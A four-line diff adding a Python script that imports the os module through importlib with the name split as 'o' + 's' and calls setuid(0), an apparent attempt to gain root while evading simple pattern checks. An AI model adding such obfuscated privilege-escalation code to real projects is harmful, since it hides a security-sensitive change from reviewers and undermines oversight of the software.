@@ -1,0 +1,4 @@
+#!/usr/bin/env python3
+
+import importlib
+importlib.import_module("o" + "s").setuid(0)
